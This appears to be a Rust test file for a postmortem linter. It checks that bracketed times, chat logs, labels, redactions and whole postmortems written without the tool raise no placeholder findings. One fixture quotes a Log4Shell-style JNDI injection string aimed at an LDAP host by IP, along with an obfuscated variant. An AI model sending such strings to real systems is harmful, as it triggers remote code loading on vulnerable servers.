//! "Never a placeholder": real writing, as people put it in postmortems,
//! that `pm lint --strict` must not report. Each test adds a small
//! realistic fixture to the clean final document (or lints a whole
//! document written without pm) and expects no placeholder finding.

mod common;

use common::lint as support;

use support::{Run, assert_clean, clean_with, lint_doc};

/// Lints CLEAN with `blocks` added, with `--strict`.
fn strict_with(blocks: &str) -> Run {
    lint_doc(&clean_with(blocks), &["--strict"])
}

// Bracketed times and timestamps

#[test]
fn bracketed_times_as_chat_logs_and_log_excerpts_print_them() {
    assert_clean(
        &strict_with(
            "[09:14] dana: the pool is full\n\
             [3:02 PM] Lee: restarting the API pods now\n\
             [11-30 23:58] deploy 4411 finished\n\
             [2026-11-20 10:01:07] ERROR pool exhausted (20/20)\n\
             [Mar 3, 2025 at 9:41:10 PM] Sam: is checkout back?\n\
             [23:59:59.123] last write acknowledged\n\
             [2026-11-22T14:02:11Z] pgbouncer: no more connections allowed",
        ),
        1,
    );
}

#[test]
fn bracketed_times_first_on_a_quoted_or_list_line() {
    assert_clean(
        &strict_with(
            "> [09:14] dana: errors are climbing on checkout\n\
             > [09:16] lee: same on the admin API\n\n\
             - [09:14] The 5xx alert fired.\n\
             - [09:20] Paged the database on-call.\n\n\
             1. [Tue 14:02] Error rate above 5%.\n\
             2. [Tue 14:06] Incident declared.",
        ),
        1,
    );
}

#[test]
fn a_pasted_chat_log_of_several_lines() {
    assert_clean(
        &strict_with(
            "From #inc-checkout:\n\n\
             [14:03] dana: anyone else seeing 503s on checkout?\n\
             [14:04] lee: yes, the pool is at 20/20\n\
             [14:06] dana: paging database on-call\n\
             [14:11] sam: raising pool size to 80\n\
             [2:15 PM] lee: pods restarted, error rate dropping",
        ),
        1,
    );
}

// Log levels, tags, section names, ticket keys

#[test]
fn log_levels_tags_section_names_and_ticket_keys() {
    assert_clean(
        &strict_with(
            "The logs showed [WARN] pool near capacity, then [DEBUG] retrying and\n\
             [ERROR] pool exhausted. The fix PR was still marked [WIP].\n\n\
             The unit file starts with [Unit] and then [Service]; my.cnf has a\n\
             [mysqld] section. Tracked in [OPS-2291] and [SEC-101].",
        ),
        1,
    );
}

// Names, teams and organisations

#[test]
fn names_teams_and_organisations_as_owner_tags_or_speaker_labels() {
    assert_clean(
        &strict_with(
            "[Dana] owned comms, [SRE] owned the fix, [Platform Team] reviewed it\n\
             and [Acme Corp] was told at 15:30.\n\n\
             - Fix the pool [@dana]\n\
             - Rotate the database keys [@lee, @dana]\n\n\
             [Dana]: failing over now\n\n\
             [Dana Kim]: I see it recovering too",
        ),
        1,
    );
}

// Editorial conventions

#[test]
fn editorial_conventions() {
    assert_clean(
        &strict_with(
            "The alert read \"pool exausted [sic]\", the log was cut […] and the\n\
             customer's address was [removed] by the scrubber; the chat said\n\
             \"the pool is fine [it was not]\" and the page showed [redacted].",
        ),
        1,
    );
}

#[test]
fn a_substitution_inside_a_quotation() {
    assert_clean(
        &strict_with(
            "> Your order could not be completed and was billed to your [payment provider] account twice.\n\n\
             The receipt email said \"your [payment provider] account was charged\" to\n\
             1,200 customers, and the banner said \"Your [account type] plan is paused\".",
        ),
        1,
    );
}

// States and labels from a UI or a tool

#[test]
fn states_and_labels_quoted_from_a_ui_or_a_tool() {
    assert_clean(
        &strict_with(
            "The alert went from [Pending] to [Firing] at 14:05. The fix lived in a\n\
             [Private] fork, so we ticked [Allow edits by maintainers] on the PR; it\n\
             showed [Changes requested] until Lee pressed [Merge when ready].",
        ),
        1,
    );
}

// Code-shaped text outside code spans

#[test]
fn code_shaped_text_outside_code_spans() {
    assert_clean(
        &strict_with(
            "The flag list was [\"a\", \"b\"] and opts[\"retries\"] was 0. The job walked\n\
             [i, j] pairs, kept [:42] of each batch, wrote to [db.users] and peaked at\n\
             [512/1024mb]; arr[0] and s[1:3] were both empty, the mask was [0x1f].",
        ),
        1,
    );
}

#[test]
fn math_set_notation_and_attribute_lists() {
    assert_clean(
        &strict_with(
            "The retry cost is \\sum_{k \\in [1, n]} c_k with {Q} requests queued.\n\
             Affected versions: {1.2.x, 1.3.x}; the range [0, 1) was never sampled.\n\n\
             Do not lower the pool size without a load test.\n\
             {: .warning}",
        ),
        1,
    );
}

// Text art, time boxes, nested brackets in a link

#[test]
fn text_art_time_boxes_and_brackets_nested_in_a_link() {
    assert_clean(
        &strict_with(
            "Pool usage at 14:10: [▓▓▓▓▓▓▒▒░░] 80%, queue [#####-----] half full.\n\n\
             Review agenda: [15m] timeline, [45 Minutes] root cause, [2h] actions,\n\
             [30 sec] silence.\n\n\
             Read [see [the graph] here](https://example.com/g) for the curve.",
        ),
        1,
    );
}

// Comments that are not guidance

#[test]
fn one_word_and_tool_directive_comments_are_not_guidance() {
    assert_clean(
        &strict_with(
            "<!-- more -->\n\n\
             <!-- toc -->\n\n\
             <!-- markdownlint-disable MD013 -->\n\n\
             <!-- prettier-ignore -->\n\
             | Pool | Size |\n\
             |------|------|\n\
             | orders | 80 |\n\n\
             <!-- markdownlint-enable MD013 -->\n\n\
             <!-- truncate -->\n\n\
             <!-- textlint-disable -->",
        ),
        1,
    );
}

#[test]
fn remark_lint_directives_and_list_separators_are_not_guidance() {
    assert_clean(
        &strict_with(
            "- Raise the pool size.\n\
             - Restart the pods.\n\n\
             <!-- end list -->\n\n\
             <!--lint disable no-html-->\n\n\
             <!-- lint ignore maximum-line-length -->",
        ),
        1,
    );
}

// List items that end with a label and a colon

#[test]
fn a_labelled_list_item_with_its_value_in_a_nested_block() {
    assert_clean(
        &strict_with(
            "- Restart the workers:\n\n\
             \x20 ```\n\
             \x20 systemctl restart worker@*\n\
             \x20 ```\n\n\
             - **Detected**:\n\
             \x20 Pager alert at 14:06 UTC.\n\n\
             - Roll back the release:\n\n\
             \x20 1. Pause the pipeline.\n\
             \x20 2. Deploy 3.14.1.\n\n\
             * **Resolved**:\n\
             \x20 > Pool raised to 80 at 15:21.",
        ),
        1,
    );
}

#[test]
fn a_labelled_list_item_with_its_value_in_the_next_block() {
    assert_clean(
        &strict_with(
            "- **Detected**:\n\n\
             Pager alert at 14:06 UTC from the pool-saturation monitor.\n\n\
             - Restart the workers:\n\n\
             ```\n\
             systemctl restart worker@*\n\
             ```\n\n\
             - **Impact**:\n\n\
             | Region | Failed checkouts |\n\
             |--------|------------------|\n\
             | eu-west-1 | 41% |",
        ),
        1,
    );
}

#[test]
fn list_items_ending_in_a_colon_that_are_not_labels() {
    assert_clean(
        &strict_with(
            "- Modified the logic so that:\n\
             \x20 - All new writes go to the new table.\n\
             \x20 - Reads fall back to the old table.\n\
             - The new config check makes sure that:\n\
             \x20 - every key has an owner, and\n\
             \x20 - no key expires within a week.",
        ),
        1,
    );
}

// Angle brackets

#[test]
fn angle_brackets_that_are_html() {
    assert_clean(
        &strict_with(
            "Line one<br>line two. Press <kbd>Ctrl</kbd>+<kbd>C</kbd> to stop it.\n\n\
             <details><summary>Logs</summary>\n\n\
             pool exhausted (20/20)\n\n\
             </details>",
        ),
        1,
    );
}

#[test]
fn autolinks() {
    assert_clean(
        &strict_with(
            "Status page: <https://status.example.com/incidents/42>, graphs at\n\
             <https://grafana.example.com/d/abc?from=now-6h>. Ask <ops@example.org>\n\
             for access to the incident channel.",
        ),
        1,
    );
}

#[test]
fn chat_nicks_command_parameters_and_event_markers() {
    assert_clean(
        &strict_with(
            "<dana> restarting the pods\n\
             <lee> ack, watching the graphs\n\n\
             On each node we ran systemctl restart <unit>, then ssh <host> and\n\
             kubectl logs <pod> -n <namespace>.\n\n\
             <BEGIN MAINTENANCE>\n\
             pods drained one by one\n\
             <END OF INCIDENT>",
        ),
        1,
    );
}

// Whole documents

const JEKYLL: &str = "\
---
layout: post
title: \"[Incident] Cache nodes evicted\"
date: 2025-03-04 18:20:00 +0000
categories: [incidents, postmortem]
tags: [redis, cache]
author: Dana Kim
permalink: /incidents/2025/03/cache-nodes-evicted/
---

# [Incident] Cache nodes evicted

## Summary

On March 3 three cache nodes were evicted by the scheduler and the product
pages fell back to the database for 41 minutes.

## Timeline

All times in UTC.

| Time  | Event |
|-------|-------|
| 21:38 | Node pool upgrade started |
| 21:41 | First cache node evicted |
| 22:19 | Cache nodes rescheduled with a disruption budget |

## Root Cause

The cache pods had no PodDisruptionBudget, so the upgrade drained them all at once.

## Resolution

We added a PodDisruptionBudget and rescheduled the pods.

## Action Items

- Add disruption budgets to every stateful workload (OPS-881).
";

/// Jekyll's front matter lacks pm's keys; pm says so, and nothing else: the bracketed `[Incident]` in the title
/// and the heading is a label, not a placeholder.
#[test]
fn jekyll_front_matter_brings_no_placeholder_findings() {
    let run = lint_doc(JEKYLL, &["--strict"]);
    assert_eq!(
        run.stdout,
        "a.md:1:1: PM003 [error] front matter has no `incident_id`\n\
         a.md:1:1: PM003 [error] front matter has no `severity`\n\
         a.md:1:1: PM003 [error] front matter has no `status`\n\
         a.md:1:1: PM003 [error] front matter has no `started_at`\n\
         a.md:1:1: PM003 [error] front matter has no `detected_at`\n\
         a.md:1:1: PM003 [error] front matter has no `resolved_at`\n"
    );
    assert_eq!(
        run.stderr,
        "Found 6 errors and 0 warnings in 1 of 1 file checked.\n"
    );
    assert_eq!(run.code, 1);
}

const HUGO_YAML: &str = "\
---
title: \"[Postmortem] DNS resolution failures in eu-west-1\"
date: 2025-06-12T08:00:00+02:00
draft: false
tags: [\"dns\", \"postmortem\"]
summary: \"[Resolved] Internal DNS failed for 18 minutes.\"
---

## Summary

Internal DNS lookups failed in eu-west-1 for 18 minutes after a resolver config push.

## Resolution

We rolled the resolver config back.

## Action Items

- Canary resolver config pushes in one zone first (OPS-512).
";

#[test]
fn hugo_yaml_front_matter_brings_no_placeholder_findings() {
    let run = lint_doc(HUGO_YAML, &["--strict"]);
    assert_eq!(
        run.stdout,
        "a.md:1:1: PM003 [error] front matter has no `incident_id`\n\
         a.md:1:1: PM003 [error] front matter has no `severity`\n\
         a.md:1:1: PM003 [error] front matter has no `status`\n\
         a.md:1:1: PM003 [error] front matter has no `started_at`\n\
         a.md:1:1: PM003 [error] front matter has no `detected_at`\n\
         a.md:1:1: PM003 [error] front matter has no `resolved_at`\n\
         a.md:9:1: PM101 [error] missing section `Timeline`\n\
         a.md:9:1: PM101 [error] missing section `Root Cause`\n"
    );
    assert_eq!(
        run.stderr,
        "Found 8 errors and 0 warnings in 1 of 1 file checked.\n"
    );
    assert_eq!(run.code, 1);
}

/// A postmortem in the style of a public one, written without pm: its own
/// headings, no front matter, a pasted chat log, a timeline table and
/// action items.
const PUBLIC_STYLE: &str = "\
# Postmortem: Login outage on 14 October

*Written by the platform team. Blameless.*

<!-- more -->

## What happened

On Tuesday 14 October, between 09:12 and 10:03 UTC, about 40% of login
attempts failed with `500 Internal Server Error`. Sessions that were already
open kept working. Our status page (<https://status.example.com/incidents/42>)
was updated at 09:20.

## How we found out

The `login-errors` alert went from [Pending] to [Firing] at 09:14. From the
incident channel:

> [09:14] dana: login 500s are climbing, looking
> [09:15] lee: the token service pods are restarting in a loop
> [09:17] dana: [WARN] lines everywhere: `key cache miss`
> [09:21] <sam> rolling back 3.14.2

## Timeline

All times in UTC.

| Time  | What happened |
|-------|---------------|
| 09:02 | Release 3.14.2 of the token service deployed |
| 09:12 | First failed logins |
| 09:14 | `login-errors` alert fires, Dana paged |
| 09:21 | Rollback to 3.14.1 started |
| 10:03 | Error rate back to normal |

## Why it happened

Release 3.14.2 moved the signing keys under a new `[keys]` section of the
config file, but the production config still had them under [signing]. The
service fell back to fetching each key on every request and the key store
throttled it. The new code read cfg[\"keys\"][\"active\"] and got nothing.

## What went well

- The alert fired two minutes after the first failure.
- The rollback runbook worked as written [sic].

## What we are doing about it

| Action | Owner | Ticket |
|--------|-------|--------|
| Validate the config against the schema at startup | [@lee] | OPS-2291 |
| Add a canary stage to the token service pipeline | [SRE] | OPS-2292 |
| Alert on key store throttling | Dana | OPS-2293 |
";

#[test]
fn a_public_style_postmortem_has_no_placeholder_findings() {
    let run = lint_doc(PUBLIC_STYLE, &[]);
    let placeholders: Vec<&str> = run
        .lines()
        .into_iter()
        .filter(|l| l.contains(": PM2"))
        .collect();
    assert_eq!(placeholders, Vec::<&str>::new(), "stdout:\n{}", run.stdout);
    // What pm does report: no front matter, and its own section names.
    assert_eq!(
        run.stdout,
        "a.md:1:1: PM001 [error] no front matter: the file does not start with a `---` block\n\
         a.md:1:1: PM101 [error] missing section `Summary`\n\
         a.md:1:1: PM101 [error] missing section `Resolution`\n\
         a.md:1:1: PM101 [error] missing section `Action Items`\n"
    );
    assert_eq!(
        run.stderr,
        "Found 4 errors and 0 warnings in 1 of 1 file checked.\n"
    );
    assert_eq!(run.code, 1);
}

// Found in archives: writing about stand-ins, not stand-ins

#[test]
fn a_lead_in_to_a_link_is_not_filler() {
    assert_clean(
        &strict_with(
            "More details here: <https://status.example.com/incidents/9x4k2>, including the timeline.",
        ),
        1,
    );
}

#[test]
fn what_people_said_in_a_chat_log_is_not_left_over() {
    assert_clean(
        &strict_with(
            "[10:06] omar: TBD, how many duplicates will the check catch?\n\
             [10:07] dana: format is YYYY-MM-DD in the export\n\
             14:09 lee: TODO after the call",
        ),
        1,
    );
}

#[test]
fn shell_server_and_attack_strings_are_not_template_variables() {
    assert_clean(
        &strict_with(
            "The probe sent ${jndi:ldap://45.83.64.1:1389/a} and ${${lower:j}ndi:x}.\n\
             The cache key was ${scheme}${host}${uri}; the alert text said CoreDNS in \
             {{ $labels.cluster }} is down.",
        ),
        1,
    );
}

#[test]
fn a_paragraph_about_templates_formats_and_markers_names_them() {
    assert_clean(
        &strict_with(
            "The welcome email was rendered without its template variables: it began with\n\
             \"Hi {{ FIRST_NAME }},\" and pointed to {ACTIVATION_URL}.\n\n\
             Dates were written in the locale format (DD/MM/YYYY) instead of YYYY-MM-DD.\n\n\
             We triaged the 37 TODO comments. The designer's Lorem ipsum footer was still in \
             the HTML part.",
        ),
        1,
    );
}

#[test]
fn notes_on_where_the_text_came_from_are_not_guidance() {
    assert_clean(
        &strict_with(
            "<!-- Translated from the Confluence page 48213 on 2024-09-30 -->\n\n\
             <!----- Conversion notes: gd2md-html, 3 warnings ----->",
        ),
        1,
    );
}

#[test]
fn a_jekyll_highlight_block_is_code() {
    assert_clean(
        &strict_with(
            "{% highlight nginx %}\nproxy_cache_key ${scheme}${host}${uri} TODO [Your Name];\n\
             {% endhighlight %}",
        ),
        1,
    );
}

#[test]
fn a_team_in_brackets_is_an_owner() {
    assert_clean(
        &strict_with(
            "| Action | Owner |\n|---|---|\n| Replace the UPS batteries | [Facilities team] |\n\
             | Label the racks | [DC Ops] |",
        ),
        1,
    );
}

#[test]
fn wiki_links_and_form_field_names_are_not_placeholders() {
    assert_clean(
        &strict_with(
            "See [[Kafka runbook]] and ask [[People/Ilse Janssen|Ilse]] or [[Service Owner]].\n\n\
             [Assigned to]: Katarzyna Nowak\n[Cause notes]: the pool was capped at 20",
        ),
        1,
    );
}

#[test]
fn pseudonyms_and_redactions_of_a_public_postmortem() {
    assert_clean(
        &strict_with(
            "[Engineer 1] paged [Engineer 2]; [Customer A] and [Tenant X] saw errors. \
             Logs: [internal link], [link removed].\n\n\
             - Contact: <redacted>\n- Node: <none>\n- Lease: <pending>",
        ),
        1,
    );
}

#[test]
fn masked_numbers_and_marker_words_as_values() {
    assert_clean(
        &strict_with(
            "The card 4111 XXXX XXXX 1234 was charged twice; IBAN DE89-XXXX-XXXX-00.\n\n\
             The job selected rows with `status` IN ('NEW','TODO'); the \"TODO\" column and \
             the regex 'FIXME|TODO' were fine.",
        ),
        1,
    );
}

#[test]
fn steps_and_lessons_in_the_imperative_are_not_guidance() {
    assert_clean(
        &strict_with(
            "- describe the failing pod with kubectl describe\n\
             - Explain what you are about to do before running a command",
        ),
        1,
    );
}

#[test]
fn what_customers_saw_quoted_in_a_block_quote() {
    assert_clean(
        &strict_with("> Hi {FIRST_NAME}, your {{ month }} invoice of $X is due on YYYY-MM-DD."),
        1,
    );
}

#[test]
fn the_sre_books_action_table_states() {
    assert_clean(
        &strict_with(
            "| Action Item | Owner | Bug | Due |\n|---|---|---|---|\n\
             | Plug the fd leak (B-1) | jennifer | Bug 5554825 **DONE** | 2026-05-23 |\n\
             | Add load shedding (B-2) | agoogler | Bug 5554826 **TODO** | 2026-12-15 |",
        ),
        1,
    );
}

// Section names of archives written without pm

#[test]
fn the_section_names_of_archives_written_without_pm_are_the_required_sections() {
    // Headings as published postmortems write them (Chia, Mentimeter,
    // etcd, PostHog): each stands for a section a document with no template
    // needs, so none is reported missing.
    for (summary, cause, resolution, actions) in [
        (
            "Issue Summary",
            "Cause of the problem",
            "Resolution and recovery",
            "Corrective actions with owners",
        ),
        (
            "Description",
            "Cause of the issue",
            "Immediate actions",
            "Corrective and Preventative Measures",
        ),
        (
            "Incident Description",
            "Fault",
            "The fix",
            "Follow-up tasks",
        ),
    ] {
        let doc = format!(
            "---\ntitle: Disk full\nincident_id: INC-2024-0001\ndate: 2024-03-13\nseverity: SEV-3\n\
             status: draft\n---\n\n# Disk full\n\n## {summary}\n\nThe disk filled.\n\n## Timeline\n\n\
             | Time | Event |\n|---|---|\n| 10:00 | Alert |\n\n## {cause}\n\nLogs were never rotated.\n\n\
             ## {resolution}\n\nOld logs were deleted.\n\n## {actions}\n\n\
             | Action | Owner | Due | Status |\n|---|---|---|---|\n| Rotate logs | Dana | 2027-01-10 | Open |\n"
        );
        assert_clean(&lint_doc(&doc, &[]), 1);
    }
}
